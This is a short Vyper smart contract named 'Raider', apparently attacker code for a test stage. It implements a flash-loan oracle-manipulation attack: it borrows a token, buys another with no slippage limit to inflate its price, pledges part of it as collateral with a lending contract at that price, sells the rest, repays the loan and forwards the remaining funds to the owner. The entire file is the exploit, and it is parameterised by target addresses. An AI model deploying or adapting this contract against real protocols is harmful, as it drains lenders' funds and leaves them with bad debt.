# pragma version ~=0.4.3
# pragma evm-version cancun
# slither-disable-start all an attacker of a stage
"""
@title Raider
@license Apache-2.0
@notice Borrows for a moment, buys until a price is absurd, pledges at that price, sells and pays back.
@custom:trust The owner gets what is left.
@custom:stop Nobody calls it.
"""

from ethereum.ercs import IERC20

interface Bazaar:
    def swap(sold: address, amount: uint256, least: uint256) -> uint256: nonpayable
    def lend(token: address, amount: uint256): nonpayable

interface Pawnshop:
    def pawn(amount: uint256) -> uint256: nonpayable

OWNER: immutable(address)
HALL: immutable(Bazaar)
BAZAAR: immutable(Bazaar)
PAWNSHOP: immutable(Pawnshop)
FIRST: immutable(IERC20)
SECOND: immutable(IERC20)


@deploy
def __init__(hall: address, bazaar: address, pawnshop: address, first: address, second: address):
    OWNER = msg.sender
    HALL = Bazaar(hall)
    BAZAAR = Bazaar(bazaar)
    PAWNSHOP = Pawnshop(pawnshop)
    FIRST = IERC20(first)
    SECOND = IERC20(second)


@external
def raid(amount: uint256):
    """
    @notice Do it with a loan of so much of the second token.
    """
    assert msg.sender == OWNER, "raider: not the owner"
    extcall HALL.lend(SECOND.address, amount)
    assert extcall SECOND.transfer(OWNER, staticcall SECOND.balanceOf(self)), "raider: nothing left"


@external
def on_loan(token: address, amount: uint256):
    """
    @notice Called by the lender while the loan lasts.
    """
    assert msg.sender == HALL.address, "raider: not the lender"
    assert extcall SECOND.approve(BAZAAR.address, amount), "raider: no approval"
    bought: uint256 = extcall BAZAAR.swap(SECOND.address, amount, 0)
    pledge: uint256 = bought // 10
    assert extcall FIRST.approve(PAWNSHOP.address, pledge), "raider: no approval to pledge"
    extcall PAWNSHOP.pawn(pledge)
    assert extcall FIRST.approve(BAZAAR.address, bought - pledge), "raider: no approval to sell"
    extcall BAZAAR.swap(FIRST.address, bought - pledge, 0)
    assert extcall SECOND.transfer(HALL.address, amount), "raider: not paid back"
